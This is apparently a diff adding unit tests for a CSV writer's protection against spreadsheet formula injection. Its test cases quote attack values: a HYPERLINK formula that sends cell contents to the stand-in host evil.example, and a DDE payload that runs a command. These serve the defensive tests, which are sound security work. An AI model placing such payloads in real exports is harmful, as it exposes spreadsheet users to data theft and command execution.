@@ -67,3 +67,47 @@ describe('CSV writer', () => {
     assert.deepEqual(fields(text), rows);
   });
 });
+
+describe('CSV writer: formula injection', () => {
+  it('prefixes every value a spreadsheet would run as a formula with an apostrophe', () => {
+    const cases: [string, string][] = [
+      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
+      ['+1-2', "'+1-2"],
+      ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
+      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+      ['\t=1+1', "'\t=1+1"],
+      ['\r=1+1', `"'\r=1+1"`],
+      ['-', "'-"],
+      ['+', "'+"],
+      ["'=already", "''=already"],
+      ["''@twice", "'''@twice"],
+    ];
+    for (const [value, written] of cases) assert.equal(csvValue(value), written, JSON.stringify(value));
+  });
+
+  it('leaves signed plain numbers and ordinary text alone', () => {
+    for (const value of ['-12', '+8613800000000', '-0.5', 'a=b', 'x@example.com', "it's", "'quoted'", "'", '1-2']) assert.equal(csvValue(value), value);
+  });
+
+  it('every written value reads back exactly, apostrophes included', () => {
+    const row = ['=1+1', '+1-2', '-', '@x', '\t=tab', '\r=cr', "'=already", "''@twice", '-12', '+8613800000000', "'", "'plain", 'a,b', ''];
+    const text = toCsv([['header'], row]);
+    assert.deepEqual(fields(text), [['header'], row]);
+    // No written cell starts with a formula character, except a signed plain number.
+    const cells = parseCsvCells(text);
+    assert.equal(cells.length, row.length + 1);
+    for (const cell of cells) if (!/^[+-][0-9]+(\.[0-9]+)?$/.test(cell)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(cell));
+  });
+});
+
+/** The raw cells as written, unquoted but not un-neutralised (what a spreadsheet sees first in each cell). */
+function parseCsvCells(text: string): string[] {
+  const cells: string[] = [];
+  for (const line of text.split('\r\n').filter(Boolean)) {
+    for (const match of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
+      const raw = match[1];
+      cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
+    }
+  }
+  return cells;
+}
